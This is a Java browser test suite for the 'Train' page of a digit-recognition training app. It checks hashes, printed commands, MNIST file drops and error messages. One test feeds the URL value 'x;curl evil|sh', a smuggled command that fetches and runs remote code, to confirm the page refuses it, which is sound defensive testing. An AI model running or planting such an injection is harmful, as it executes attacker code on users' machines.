package inkling.web;

import static org.assertj.core.api.Assertions.assertThat;

import inkling.data.Dataset;
import inkling.data.ImageShape;
import inkling.data.file.IdxWriter;
import inkling.data.generated.GeneratedDigits;
import inkling.evaluate.Evaluation;
import inkling.model.Model;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import java.util.stream.IntStream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What <i>Train</i> shows beside its curves, and gives away. */
class TrainPageTest extends ServedSite {
    private static final String NOTICE = "document.querySelector('.notice').textContent";
    private static final String HASH = "document.querySelector('.proof p:last-child code').textContent";
    private static final Settings SETTINGS = new Settings(
            "generated", 1000, 1, 100, List.of(784, 16, 10), "relu", "he", "adam", 0.001f, 32, 1, 0.001f, 0.1, "sum");

    /** What the page prints after an epoch with these settings; {@code PrintedCommandTest} of the module {@code app} runs it. */
    private static final String COMMAND =
            "./inkling train --data generated:1000:1 --dev 100 --layers 784,16,10 --activation relu --init he"
                    + " --optimizer adam --learning-rate 0.001 --batch 32 --l2 0.001 --dropout 0.1 --bias-gradient sum"
                    + " --iterations 29 --seed 1 --kernels plain";

    private static final String WEIGHTS = "f06185e65ebae7d01b39076648d89546988e156919d34aaca05224377b57bcc8";

    @TempDir
    Path downloads;

    private static void trainOneEpoch(String settings) {
        browser.open(home + "#train?examples=1000&hidden=16" + settings);
        browser.until("document.querySelector('.train .primary')?.disabled === false");
        browser.click(".train .tools button:nth-child(4)");
        browser.until(HASH + " && document.querySelector('.train .primary').dataset.does === 'run'");
        browser.until("document.querySelectorAll('.train .gallery li').length > 0");
    }

    private static String text(String script) {
        return (String) Objects.requireNonNull(browser.await(script));
    }

    @Test
    void layersMistakesAndConfusionAreThoseOfTheJvm() {
        trainOneEpoch("&l2=0.001&dropout=0.1&biasGradient=sum");
        browser.until("document.querySelectorAll('.layers tbody tr').length === 2");
        try (var experiment = Experiment.of(SETTINGS)) {
            experiment.train(experiment.session().updatesPerEpoch(), Integer.MAX_VALUE / 1000);
            assertThat(browser.run("return " + HASH))
                    .isEqualTo(experiment.model().weightsSha256());
            assertThat((String) browser.run("return document.querySelector('.proof pre').textContent"))
                    .isEqualTo(experiment.command())
                    .isEqualTo(COMMAND);
            assertThat(experiment.model().weightsSha256()).isEqualTo(WEIGHTS);
            Evaluation evaluation = experiment.examine(24);
            String confusion = String.join(
                    ",",
                    IntStream.range(0, 100)
                            .mapToObj(i -> Integer.toString(evaluation.confusion()[i / 10][i % 10]))
                            .toList());
            String state = "const { training } = (await import('/js/state.js')).state; return ";
            browser.until("document.querySelectorAll('.train .gallery li').length === "
                    + evaluation.mistakes().size());
            assertThat(text(state + "training.examined.confusion.join()")).isEqualTo(confusion);
            var health = Objects.requireNonNull(experiment.report().health());
            assertThat(text(state + "training.last.layers.map(layer => layer.gradientNorm).join()"))
                    .isEqualTo(health.layers().get(0).gradientNorm() + ","
                            + health.layers().get(1).gradientNorm());
        }
    }

    @Test
    void mnistIsTakenFromItsFilesHoweverLateTheyAreDropped() throws IOException {
        Dataset digits = GeneratedDigits.dataset(300, 8);
        Path images = downloads.resolve("train-images-idx3-ubyte");
        Path labels = downloads.resolve("train-labels-idx1-ubyte");
        IdxWriter.write(digits, images, labels);
        browser.open(home + "#train?data=mnist&heldOut=30&hidden=16");
        browser.until(
                "document.querySelector('.train .message')?.textContent.includes('MNIST is not here. Drop train-images-idx3-ubyte and')");
        assertThat(browser.console()).allMatch(line -> line.contains("api/v1/data"));
        drop(new byte[] {0x1f, (byte) 0x8b, 7}, Files.readAllBytes(labels));
        browser.until("document.querySelector('.notice').textContent.includes('cannot be read')");
        drop(Files.readAllBytes(images), Files.readAllBytes(labels));
        browser.until("document.querySelector('.settings .note')?.textContent.includes('270 digits')"
                + " && document.querySelector('.train .primary')?.disabled === false");
        browser.click(".train .tools button:nth-child(4)");
        browser.until(HASH + " && document.querySelector('.train .primary').dataset.does === 'run'");
        var settings = new Settings(
                "mnist", 300, 1, 30, List.of(784, 16, 10), "relu", "he", "adam", 0.001f, 32, 1, 0, 0, "unit");
        try (var experiment = Experiment.of(settings, digits)) {
            experiment.train(experiment.session().updatesPerEpoch(), Integer.MAX_VALUE / 1000);
            assertThat(browser.run("return " + HASH))
                    .isEqualTo(experiment.model().weightsSha256());
            assertThat(experiment.command()).isNull();
            assertThat((String) browser.run("return document.querySelector('.proof p').textContent"))
                    .contains("These files are not MNIST’s training digits");
        }
    }

    /** Drops them under the names of MNIST's training digits. */
    private static void drop(byte[] images, byte[] labels) {
        drop(Map.of("train-images-idx3-ubyte", images, "train-labels-idx1-ubyte", labels));
    }

    private static void drop(Map<String, byte[]> files) {
        Map<String, String> texts = new TreeMap<>();
        files.forEach((name, content) -> texts.put(name, Base64.getEncoder().encodeToString(content)));
        browser.run("""
                const dataTransfer = new DataTransfer();
                for (const [name, text] of Object.entries(arguments[0])) {
                  dataTransfer.items.add(new File([Uint8Array.from(atob(text), c => c.charCodeAt(0))], name));
                }
                document.body.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }));
                """, texts);
    }

    /** The content of a file of images, and of one of their labels. */
    private byte[][] idx(Dataset digits) throws IOException {
        Path images = downloads.resolve("images");
        Path labels = downloads.resolve("labels");
        IdxWriter.write(digits, images, labels);
        return new byte[][] {Files.readAllBytes(images), Files.readAllBytes(labels)};
    }

    private static byte[] gzipped(byte[] content) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var out = new GZIPOutputStream(bytes)) {
            out.write(content);
        }
        return bytes.toByteArray();
    }

    @Test
    void allFourFilesOfMnistAreTakenAndTheTestDigitsHeldOut() throws IOException {
        Dataset digits = GeneratedDigits.dataset(300, 8);
        Dataset test = GeneratedDigits.dataset(40, 9);
        byte[][] train = idx(digits);
        byte[][] t10k = idx(test);
        openDraw(home);
        drop(Map.of("t10k-images-idx3-ubyte", t10k[0], "t10k-labels-idx1-ubyte.gz", gzipped(t10k[1])));
        browser.until(NOTICE + " === 'Taken: 40 test digits, all held out. Drop its digits to train on, too:"
                + " train-images-idx3-ubyte and train-labels-idx1-ubyte.'");
        assertThat(browser.console()).allMatch(line -> line.contains("api/v1/data"));
        drop(Map.of(
                "train-images-idx3-ubyte (1).gz",
                gzipped(train[0]),
                "train-labels.idx1-ubyte",
                train[1],
                "t10k-images-idx3-ubyte",
                t10k[0],
                "t10k-labels-idx1-ubyte",
                t10k[1],
                "notes.txt",
                new byte[] {1}));
        browser.until(
                "document.querySelector('.settings .note')?.textContent.endsWith('300 digits to learn from, 40 held out')"
                        + " && document.querySelector('.train .primary')?.disabled === false");
        assertThat(browser.text(".notice"))
                .isEqualTo(
                        "Taken: 300 digits of MNIST to train on, and 40 test digits, all held out. Not taken: notes.txt.");
        browser.click(".train .tools button:nth-child(4)");
        browser.until(HASH + " && document.querySelector('.train .primary').dataset.does === 'run'");
        var settings = new Settings(
                "mnist", 300, 1, 30, List.of(784, 32, 10), "relu", "he", "adam", 0.001f, 32, 1, 0, 0, "unit");
        try (var experiment = Experiment.testedOn(test, settings, digits)) {
            experiment.train(experiment.session().updatesPerEpoch(), Integer.MAX_VALUE / 1000);
            assertThat(browser.run("return " + HASH))
                    .isEqualTo(experiment.model().weightsSha256());
            Evaluation evaluation = experiment.examine(1);
            browser.until("document.querySelector('.stats dd').textContent === '"
                    + String.format(
                            Locale.ROOT, "%.1f", 100 * evaluation.metrics().accuracy()) + " %'");
        }
    }

    @Test
    void aFileOfMnistThatIsNoneIsSaidInOneLine() throws IOException {
        byte[][] files = idx(GeneratedDigits.dataset(20, 1));
        byte[][] others = idx(GeneratedDigits.dataset(10, 1));
        openDraw(home);
        drop(Map.of("t10k-images-idx3-ubyte.gz", files[0]));
        browser.until(NOTICE
                + " === 't10k-images-idx3-ubyte.gz: expected t10k-labels-idx1-ubyte beside it. Drop both at once.'");
        drop(Map.of("t10k-images-idx3-ubyte", files[0], "t10k-labels-idx1-ubyte", others[1]));
        browser.until(NOTICE + ".startsWith('t10k, labels: byte 4: expected 20 labels')");
        drop(Map.of("t10k-images-idx3-ubyte", files[1], "t10k-labels-idx1-ubyte", files[1]));
        browser.until(NOTICE + ".startsWith('t10k, images: byte')");
        byte[] small = new byte[5 * 9];
        byte[][] odd = idx(new Dataset("odd", new ImageShape(3, 3), Dataset.DIGIT_NAMES, small, new byte[5]));
        drop(Map.of("t10k-images-idx3-ubyte", odd[0], "t10k-labels-idx1-ubyte", odd[1]));
        browser.until(NOTICE + ".startsWith('t10k, images: expected pictures of 28×28, found 3×3')");
        browser.run("File.prototype.arrayBuffer = () => Promise.reject(new Error('the disk is gone'))");
        drop(Map.of("t10k-images-idx3-ubyte", odd[0], "t10k-labels-idx1-ubyte", odd[1]));
        browser.until(NOTICE + " === 't10k-images-idx3-ubyte: cannot be read: the disk is gone'");
        assertThat(browser.run("return location.hash")).isEqualTo("#draw");
    }

    @Test
    void aTrainingThatDivergedHasItsOwnWordsAndNoCommand() throws IOException {
        browser.open(home + "#train?examples=1000&hidden=16&optimizer=gradient-descent&learningRate=1000000&l2=1");
        browser.until("document.querySelector('.train .primary')?.disabled === false");
        browser.click(".train .tools button:nth-child(4)");
        browser.until("document.querySelector('.proof p').textContent.startsWith('The loss is no longer a number')");
        assertThat(browser.run("return document.querySelector('.proof pre').textContent"))
                .isEqualTo("");
        browser.run("document.querySelector('.proof').open = true");
        browser.screenshot(SCREENSHOTS.resolve("train-diverged.png"));
    }

    /** A link of somebody else's prints nothing that is to be copied. */
    @Test
    void dataThatAreNoneAreRefused() {
        browser.open(home + "#train?data=x;curl%20evil|sh");
        browser.until("document.querySelector('.train .message')?.textContent"
                + " === 'data \"x;curl evil|sh\": expected generated, mnist or own'");
        assertThat(browser.run("return document.querySelector('.proof').hidden"))
                .isEqualTo(true);
    }

    @Test
    void whereThereIsNoHiddenLayerOutputsAreShown() throws IOException {
        trainOneEpoch("&hidden=");
        browser.until("document.querySelector('.train .units strong').innerText === 'What the outputs look for'");
        assertThat(browser.text(".train .units figcaption")).contains("one output, as there is no hidden layer");
        browser.screenshot(SCREENSHOTS.resolve("train-no-hidden.png"));
        browser.run("location.hash = 'train?hidden=4'");
        browser.until("document.querySelector('.train .units strong').innerText === 'What the hidden units look for'");
    }

    /** Nobody would see it, and the button would not pause it. */
    @Test
    void aTrainingThatIsGivenUpEnds() {
        browser.open(home + "#train?examples=1000&hidden=16");
        browser.until("document.querySelector('.train .primary')?.disabled === false");
        assertThat(text("""
                const { Core } = await import('/js/core.js');
                let asked;
                const { ask } = Core.prototype;
                Core.prototype.ask = function (...message) {
                  if (message[0] === 'run') asked = this;
                  return ask.apply(this, message);
                };
                document.querySelector('.train .primary').click();
                while (!asked) await new Promise(frame => requestAnimationFrame(frame));
                location.hash = 'draw';
                await new Promise(done => setTimeout(done, 100));
                location.hash = 'draw?seed=9';
                await new Promise(done => setTimeout(done, 100));
                const { update } = await asked.ask('snapshot');
                await new Promise(done => setTimeout(done, 300));
                return String((await asked.ask('snapshot')).update - update);
                """)).isEqualTo("0");
    }

    @Test
    void unitsOfTanhAreSaturatedAndNotDead() {
        trainOneEpoch("&activation=tanh");
        browser.until("document.querySelectorAll('.layers tbody tr').length === 2");
        assertThat(browser.text(".layers thead")).contains("Saturated units").doesNotContain("Dead");
        assertThat(browser.text(".health figcaption")).contains("counts as saturated");
        assertThat(state("state.training.last.layers.map(({ kind }) => kind).join()"))
                .isEqualTo("saturated,none");
    }

    @Test
    void thatOneDrawsWithItIsSaidWhileItIsSo() {
        trainOneEpoch("");
        String button = "document.querySelector('.comparison .tools button:nth-child(2)').textContent";
        browser.click(".comparison .tools button:nth-child(2)");
        browser.until(button + " === 'You draw with it now'");
        browser.await("await (await import('/js/reader.js')).readWithOwn()");
        browser.until(button + " === 'Draw with it'");
    }

    @Test
    void aHostThatAnswersEveryPathWithAPageHasNoMnist() {
        browser.openWith("""
                const get = window.fetch;
                window.fetch = path => String(path) === 'api/v1/data' ? Promise.resolve(new Response('<!doctype html>')) : get(path);
                """, home + "#train?data=mnist");
        browser.until("document.querySelector('.train .message')?.textContent.startsWith('MNIST is not here.')");
    }

    @Test
    void aSettingThatIsNoneIsNamed() {
        browser.open(home + "#train?initialization=hee&learningRate=0");
        browser.until("document.querySelector('.train .message')?.textContent"
                + " === 'initialization \"hee\": expected one of uniform, he, glorot'");
        assertThat((Double) state("state.settings.learningRate"))
                .as("a rate of 0 is none")
                .isPositive();
    }

    @Test
    void theModelIsDownloadedAndReadByTheJvm() throws IOException {
        browser.download(downloads);
        trainOneEpoch("");
        browser.click(".comparison .tools button:nth-child(3)");
        Path file = downloads.resolve("model.safetensors");
        browser.until(() -> Files.exists(file));
        Model model = Model.read(file);
        assertThat(model.weightsSha256()).isEqualTo(browser.run("return " + HASH));
        assertThat(model.provenance()).containsEntry("trained_in", "the page").containsKey("command");
    }

    @Test
    void aMistakeIsLookedInto() {
        trainOneEpoch("");
        Object hash = browser.run("return " + HASH);
        Object said = browser.run("return document.querySelector('.gallery li span').textContent");
        browser.click(".gallery li button");
        browser.until("document.querySelector('.inside .formula')");
        assertThat(browser.run("return document.querySelector('.inside .proof code').textContent"))
                .isEqualTo(hash);
        assertThat(text("const { digit, inside } = (await import('/js/state.js')).state;"
                        + " return `${digit.label} → ${inside.trace.result.label}`"))
                .isEqualTo(said);
        assertThat(
                        text(
                                "const { reads, model } = (await import('/js/state.js')).state; return `${reads.name} ${model.name}`"))
                .as("Draw reads with its own still")
                .isEqualTo("null trained-here.safetensors");
    }

    @Test
    void runsAreKeptComparedAndRemoved() {
        trainOneEpoch("");
        browser.click(".comparison .tools button");
        browser.until("document.querySelectorAll('.runs li').length === 1");
        browser.run("const units = document.querySelector('#set-activation'); units.value = 'tanh';"
                + " units.dispatchEvent(new Event('change'))");
        browser.until("location.hash.includes('activation=tanh')"
                + " && document.querySelector('.train .primary')?.textContent === 'Start'"
                + " && !document.querySelector('.train .primary').disabled");
        assertThat(browser.text(".runs li")).contains("784 → 16 → 10", "relu", "%");
        browser.click(".runs li button:first-of-type");
        browser.until("location.hash.includes('activation=relu')");
        browser.click(".runs li button:last-of-type");
        browser.until("document.querySelectorAll('.runs li').length === 0");
    }
}
